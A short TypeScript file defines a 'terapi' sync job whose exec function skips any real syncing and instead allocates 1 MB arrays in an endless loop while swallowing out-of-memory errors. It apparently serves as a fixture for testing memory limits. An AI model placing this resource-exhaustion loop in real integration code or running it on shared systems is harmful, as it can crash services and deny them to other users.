import { createSync, z } from 'terapi';

export default createSync({
    models: { Row: z.object({ id: z.string() }) },
    exec: async (terapi: any) => {
        const hoard: unknown[] = [];
        for (;;) {
            try {
                hoard.push(new Uint8Array(1 << 20).fill(1));
            } catch {
                // more
            }
        }
    }
});
